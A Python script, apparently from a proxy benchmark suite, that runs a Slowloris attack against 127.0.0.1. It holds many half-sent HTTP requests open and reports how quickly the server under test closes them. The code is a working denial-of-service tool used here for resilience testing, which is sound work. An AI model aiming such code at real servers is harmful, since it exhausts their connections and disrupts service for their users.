#!/usr/bin/env python3
"""Slowloris attacker for proxy-bench.sh's `*-slowloris` variants.

Opens CONNS connections to 127.0.0.1:PORT and sends a request head one byte per second, never
finishing it, for SECONDS; a connection the server closes is not reopened. Prints one line:
how many were opened, how many the server closed, and after how long (median, max).

    slowloris.py PORT CONNS SECONDS
"""
import asyncio
import statistics
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: bench\r\nUser-Agent: slowloris\r\nX-Slow: " + b"a" * 4096


async def one(port, until, closed_after, opened):
    start = time.monotonic()
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return
    opened.append(1)
    try:
        for byte in HEAD:
            if time.monotonic() >= until:
                break
            writer.write(bytes([byte]))
            await writer.drain()
            # Closed by the server: a read returns at once (b"" or the server's answer).
            try:
                data = await asyncio.wait_for(reader.read(1024), timeout=1.0)
                closed_after.append(time.monotonic() - start)
                return
            except asyncio.TimeoutError:
                pass
    except (ConnectionError, OSError):
        closed_after.append(time.monotonic() - start)
        return
    finally:
        writer.close()


async def main():
    port, conns, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    until = time.monotonic() + seconds
    closed_after, opened = [], []
    tasks = []
    for i in range(conns):
        tasks.append(asyncio.create_task(one(port, until, closed_after, opened)))
        if i % 100 == 99:
            await asyncio.sleep(0.05)  # no SYN flood: a connect burst is not what is measured
    await asyncio.gather(*tasks)
    if closed_after:
        median = statistics.median(closed_after)
        print(f"slowloris: {len(opened)} opened, {len(closed_after)} closed by the server "
              f"(median after {median:.1f} s, max {max(closed_after):.1f} s) within {seconds:.0f} s")
    else:
        print(f"slowloris: {len(opened)} opened, none closed by the server within {seconds:.0f} s")


asyncio.run(main())
